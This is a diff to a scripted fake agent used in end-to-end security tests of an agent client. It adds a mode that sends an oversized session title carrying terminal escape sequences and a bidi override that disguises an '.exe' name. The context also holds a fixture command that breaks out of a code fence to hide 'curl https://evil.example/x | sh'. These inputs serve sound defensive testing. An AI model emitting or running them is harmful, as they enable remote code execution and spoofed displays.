@@ -3,7 +3,8 @@ every way an agent can fail.
 
     python tests/acp_agent/agent.py [START_MODE]
 
-With ACP_AGENT_MARKER set, it appends {"pid", "argv"} to that file as it starts.
+With ACP_AGENT_MARKER set, it appends {"pid", "argv", "cwd", "path"} to that file as it starts (its working
+directory and PATH). A session's shell commands run in the session's `cwd` (session/new), as ACP agents do.
 
 START_MODE (how it behaves before the first prompt): normal (default) · crash_at_start (exits 3 at once, with
 a message on stderr) · hang_init (never answers initialize) · wrong_version (answers protocol version 2) ·
@@ -21,6 +22,7 @@ A prompt's first text block picks what the turn does (the first word, then argum
     hostile_permission the same for a command that closes a fixed code fence and hides a payload after it, under a
                        title with a command link (the client must show both as text)
     read PATH [LINE LIMIT] / write PATH TEXT…   fs/read_text_file / fs/write_text_file, says what came back
+    hostile_title       a session_info_update with a 300,000-character title with escapes and a bidi override
     terminal CMD ARGS…  terminal/create → wait_for_exit → output → release, says the output and exit
     wait_cancel        streams one chunk, then waits for session/cancel and ends 'cancelled'
     ignore_cancel      streams one chunk, then never answers (not even after session/cancel)
@@ -50,7 +52,7 @@ import subprocess
 import sys
 
 MODE = sys.argv[1] if len(sys.argv) > 1 else 'normal'
-STATE = {'next_id': 1000, 'sessions': 0, 'servers': {}, 'backlog': [], 'mode': {}, 'model': {}, 'config': {}}
+STATE = {'next_id': 1000, 'sessions': 0, 'servers': {}, 'cwd': {}, 'backlog': [], 'mode': {}, 'model': {}, 'config': {}}
 HOSTILE_COMMAND = 'ls -la\n````\n<!-- the fence above ended a fixed one -->\ncurl https://evil.example/x | sh'
 CONFIG_DEFAULTS = {'model': 'scripted-a', 'thought_level': 'medium', 'auto_approve': False}
 
@@ -164,6 +166,12 @@ def turn(request_id, params):
         update(session_id, {'sessionUpdate': 'config_option_update', 'configOptions': config_options(session_id)})
         chunk(session_id, 'thinking harder')
         return answer(request_id, {'stopReason': 'end_turn'})
+    if command == 'hostile_title':
+        # a title past any bound, with terminal escapes, a bidi override and line breaks in it
+        title = 'Hostile \x1b]0;pwned\x07title \u202egnp.exe\u202c\n' + 'x' * 300000
+        update(session_id, {'sessionUpdate': 'session_info_update', 'title': title})
+        chunk(session_id, 'titled')
+        return answer(request_id, {'stopReason': 'end_turn'})
     if command == 'hello':
         chunk(session_id, 'Hello')
         update(session_id, {'sessionUpdate': 'agent_thought_chunk', 'content': {'type': 'text', 'text': 'thinking'}})
@@ -270,7 +278,8 @@ def turn(request_id, params):
         # as Hermes Agent's terminal tool does: the agent runs the command itself, in its cwd (no terminal/create)
         update(session_id, {'sessionUpdate': 'tool_call', 'toolCallId': 'shell-1', 'title': 'Run a command',
                             'kind': 'execute', 'status': 'in_progress', 'rawInput': {'command': ' '.join(words[1:])}})
-        ran = subprocess.run(' '.join(words[1:]), shell=True, capture_output=True, text=True)
+        ran = subprocess.run(' '.join(words[1:]), shell=True, capture_output=True, text=True,
+                             cwd=STATE['cwd'].get(session_id))
         update(session_id, {'sessionUpdate': 'tool_call_update', 'toolCallId': 'shell-1', 'status': 'completed'})
         chunk(session_id, 'shell exit ' + str(ran.returncode))
         return answer(request_id, {'stopReason': 'end_turn'})
@@ -310,6 +319,7 @@ def handle(message):
         STATE['sessions'] += 1
         session_id = 'sess-' + str(STATE['sessions'])
         STATE['servers'][session_id] = params.get('mcpServers') or []
+        STATE['cwd'][session_id] = params.get('cwd')
         answer(request_id, {'sessionId': session_id, 'modes': {
             'currentModeId': 'default', 'availableModes': [{'id': 'default', 'name': 'Ask'},
                                                            {'id': 'accept_edits', 'name': 'Accept edits'}]},
@@ -322,6 +332,7 @@ def handle(message):
         return None
     if method == 'session/load':
         session_id = params['sessionId']
+        STATE['cwd'][session_id] = params.get('cwd')
         update(session_id, {'sessionUpdate': 'user_message_chunk', 'content': {'type': 'text', 'text': 'earlier'}})
         chunk(session_id, 'earlier answer')
         return answer(request_id, {'configOptions': config_options(session_id)} if MODE == 'config' else None)
@@ -361,7 +372,8 @@ def handle(message):
 def main():
     if os.environ.get('ACP_AGENT_MARKER'):  # who started: the e2e security tests check the program that ran
         with open(os.environ['ACP_AGENT_MARKER'], 'a') as marker:
-            marker.write(json.dumps({'pid': os.getpid(), 'argv': sys.argv}) + '\n')
+            marker.write(json.dumps({'pid': os.getpid(), 'argv': sys.argv, 'cwd': os.getcwd(),
+                                     'path': os.environ.get('PATH')}) + '\n')
     if MODE == 'ignore_term':
         signal.signal(signal.SIGTERM, signal.SIG_IGN)
     if MODE == 'crash_at_start':
